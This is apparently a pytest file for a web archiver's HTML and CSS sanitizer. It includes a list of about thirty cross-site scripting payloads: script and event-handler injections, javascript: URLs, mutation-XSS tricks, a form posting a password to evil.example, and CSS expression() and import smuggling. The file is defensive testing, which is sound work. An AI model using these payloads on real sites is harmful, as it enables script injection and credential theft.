"""A page as received, made so that nothing of it runs and all it shows comes from where we say. Pure."""

import re

import pytest

from luutin.crawler.documents.harmless.child import answer
from luutin.crawler.documents.harmless.page import HarmlessOrder

PAGE = "http://dong-sen.example/tin/a.html"


def harmless(html, *, is_style=False):
    """The page of *html*, its body alone where it has one."""
    order = HarmlessOrder(PAGE, {"content-type": "text/html; charset=utf-8"}, "/kept/im_/", "/kept/", is_style=is_style)
    return answer(html.encode(), order).text


HOSTILE = {
    "a script": "<script>steal()</script>",
    "a script of elsewhere": "<script src=http://evil.example/x.js></script>",
    "a handler": "<img src=x onerror=steal()><p onclick=steal()>",
    "a handler in capitals": "<IMG SRC=x ONERROR=steal()>",
    "a drawing": "<svg onload=steal()><script>steal()</script><image href=http://evil.example/></svg>",
    "a formula": "<math><mtext><mglyph><style><img src=x onerror=steal()></style></mglyph></mtext></math>",
    "a refresh": '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "a policy": '<meta http-equiv=Content-Security-Policy content="img-src http://evil.example">',
    "a base": '<base href="http://evil.example/" target="_top"><a href=x>x</a>',
    "a form": "<form action=http://evil.example/ method=post><input name=password><button formaction=//evil.example>",
    "an address that runs": '<a href="javascript:steal()">x</a><a href=" java\nscript:steal()">x</a>',
    "the same in disguise": '<a href="&#106;avascript:steal()">x</a><a href="vbscript:steal()">x</a>',
    "a document in an address": '<a href="data:text/html,<script>steal()</script>">x</a>',
    "frames": "<iframe src=http://evil.example/ srcdoc='<script>steal()</script>'></iframe><frameset><frame src=x>",
    "things embedded": "<object data=http://evil.example/></object><embed src=http://evil.example/><applet code=x>",
    "a portal": "<portal src=http://evil.example/></portal><fencedframe></fencedframe>",
    "what is loaded ahead": "<link rel=preload href=http://evil.example/><link rel=dns-prefetch href=//evil.example>",
    "sets of pictures": '<img srcset="http://evil.example/ 2x"><picture><source srcset=http://evil.example/></picture>',
    "a ping": '<a href=x ping="http://evil.example/">x</a>',
    "media": "<video src=http://evil.example/ poster=http://evil.example/ autoplay></video><audio src=x>",
    "a template": "<template><script>steal()</script></template>",
    "a noscript that opens": '<noscript><p title="</noscript><img src=x onerror=steal()>">',
    "an element of its own": "<x-thing onconnected=steal()>words</x-thing>",
    "a style that closes itself": "<style></style><script>steal()</script></style>",
    "a style whose ends meet": "<style><<!--/style><script>steal()</script></style>",
    "a style whose ends meet over an import": "<style><@import x;/style><script>steal()</script></style>",
    "a style attribute": '<p style="background:url(http://evil.example/x)">',
    "a title that opens": "<title></title><script>steal()</script></title>",
    "a map": '<map><area href="javascript:steal()"></map><img usemap=#x src=y>',
    "a comment of old browsers": "<!--[if IE]><script>steal()</script><![endif]-->",
    "an entity in text": "&lt;script&gt;steal()&lt;/script&gt;",
    "a quotation mark in a value": "<p title='\"><script>steal()</script>'>",
}
RUNS = re.compile(
    r"<script|<svg|<math|<iframe|<frame|<object|<embed|<form|<base|<meta http|\son\w+\s*=|javascript:", re.IGNORECASE
)
ADDRESS = re.compile(
    r"""(?:href|src|background|poster|action|srcset|data|ping)="([^"]*)"|url\((?:&quot;|")?([^)"&]*)""", re.IGNORECASE
)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_nothing_of_a_page_runs_or_leads_out(html):
    """Whatever stands in it: no element and no handler that runs, and every address is one of ours."""
    shown = harmless(f"<!DOCTYPE html><body><h1>Thông báo</h1>{html}<p>Hết.")
    assert "Thông báo" in shown
    inert = re.sub(r'="[^"]*"', '=""', shown)
    assert not RUNS.search(inert)
    for found in ADDRESS.finditer(shown):
        address = found[1] or found[2] or ""
        assert address.startswith(("/kept/", "#", "data:image/", "data:,")) or not address


STYLES = {
    "a{background:url(i.png)}": 'a{background:url("/kept/im_/http://dong-sen.example/tin/i.png")}',
    "a{background:URL( 'http://x.example/i.png' )}": 'a{background:url("/kept/im_/http://x.example/i.png")}',
    '@import "b.css"; p{}': '@import url("/kept/im_/http://dong-sen.example/tin/b.css"); p{}',
    "@import url(//x.example/b.css) screen;": '@import url("/kept/im_/http://x.example/b.css") screen;',
    '@import "b" url(//evil.example/c);': '@import url("/kept/im_/http://dong-sen.example/tin/b");',
    r"a{background:u\72l(http://x.example/i)}": 'a{background:url("/kept/im_/http://x.example/i")}',
    r"@\69mport 'http://x.example/b';": '@import url("/kept/im_/http://x.example/b");',
    "a{width:expression(steal())}": "a{width:none(steal())}",
    "a{background:image-set('http://x.example/i' 1x)}": "a{background:none('http://x.example/i' 1x)}",
    "a{background:url(javascript:steal())}": "a{background:none(javascript:steal())}",
    "a{background:url(data:image/png;base64,AA)}": 'a{background:url("data:image/png;base64,AA")}',
    "/* url(x) */p{}": "p{}",
    "</style><script>p{}": " /style> script>p{}",
    "<!-- p{} -->": "  p{}  ",
}


@pytest.mark.parametrize(("css", "made"), STYLES.items(), ids=STYLES)
def test_each_address_of_a_style_sheet_is_ours(css, made):
    """Imports, pictures and fonts, also where letters are written as escapes; what old browsers ran is broken."""
    assert harmless(css, is_style=True) == made


def test_what_shows_something_stays():
    """Text, tables, pictures, links, classes and styles; a lazy picture has its address; the base counts."""
    shown = harmless(
        '<html><head><base href="/anh/"><link rel=stylesheet href=a.css><title>Tin &amp; bài</title></head>'
        "<body class=trang><table border=1><tr><td colspan=2>Ô</td></tr></table>"
        "<img data-src=1.png src=c.gif alt=Ảnh>"
        '<a href="../b?x=1&amp;y=2#c">Bài</a><form>Hỏi</form><a href="#c">c</a></body></html>'
    )
    for part in (
        '<link rel="stylesheet" href="/kept/im_/http://dong-sen.example/anh/a.css">',
        "<title>Tin &amp; bài</title>",
        '<body class="trang">',
        '<td colspan="2">Ô</td>',
        '<img alt="Ảnh" src="/kept/im_/http://dong-sen.example/anh/1.png">',
        '<a href="/kept/http://dong-sen.example/b?x=1&amp;y=2" target="_top" rel="noreferrer">Bài</a>',
        "Hỏi",
        '<a href="#c">c</a>',
    ):
        assert part in shown
